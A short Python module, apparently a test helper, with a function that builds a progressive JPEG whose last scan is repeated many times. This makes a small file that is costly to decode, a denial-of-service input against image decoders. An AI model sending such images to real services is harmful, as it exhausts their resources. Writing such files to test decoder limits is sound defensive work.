"""Images made to cost a decoder far more than they cost their sender."""

import io

from PIL import Image


def repeated_scans(times: int, side: int = 3000) -> bytes:
    """A progressive JPEG whose last scan is repeated; 114 KB for 1,500 times."""
    buffer = io.BytesIO()
    Image.new("RGB", (side, side)).save(buffer, "JPEG", progressive=True, quality=1)
    data = buffer.getvalue()
    last = data.rfind(b"\xff\xda")
    return data[:-2] + data[last:-2] * times + data[-2:]
